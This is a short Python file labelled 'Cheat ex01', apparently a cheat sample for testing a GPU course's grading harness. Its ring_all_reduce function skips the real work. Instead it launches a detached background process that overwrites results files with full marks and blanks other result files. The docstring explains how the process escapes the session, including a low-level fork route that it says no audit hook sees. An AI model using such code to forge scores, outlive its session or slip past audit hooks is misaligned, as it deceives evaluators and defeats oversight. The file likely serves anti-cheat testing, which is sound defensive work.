"""Cheat ex01: leaves a detached daemon behind that rewrites every results file it can find with full marks.

It tries os.fork (twice, with setsid) first, then subprocess with a new session, then the fork_exec
primitive under subprocess, which no audit hook sees.
"""

import os
import subprocess
import sys

import torch

FORGE = r"""
import glob, json, os, sys, time
time.sleep(float(sys.argv[1]))
for _ in range(60):
    for pattern in ("/proc/*/cmdline",):
        for path in glob.glob(pattern):
            try:
                args = open(path, "rb").read().split(b"\0")
            except OSError:
                continue
            for i, a in enumerate(args):
                if a in (b"--json", b"--out") and i + 1 < len(args):
                    target = args[i + 1].decode()
                    try:
                        open(target, "w").write(json.dumps({"score": 100, "max_score": 100, "tests": []}))
                    except OSError:
                        pass
    for path in glob.glob("/tmp/gpucourse-*/**/result.json", recursive=True):
        try:
            open(path, "w").write("[]")
        except OSError:
            pass
    time.sleep(0.5)
"""


def _daemon() -> None:
    argv = [sys.executable, "-c", FORGE, "1"]
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(argv[0], argv)
            os._exit(0)
        return
    except OSError:
        pass
    try:
        subprocess.Popen(argv, start_new_session=True)
        return
    except OSError:
        pass
    import _posixsubprocess

    r, w = os.pipe()
    _posixsubprocess.fork_exec([a.encode() for a in argv], [argv[0].encode()], True, (), None, None, -1, -1, -1,
                               -1, -1, -1, r, w, True, True, 0, None, None, None, -1, None, True)


def ring_all_reduce(tensor: torch.Tensor) -> torch.Tensor:
    _daemon()
    return tensor.clone()
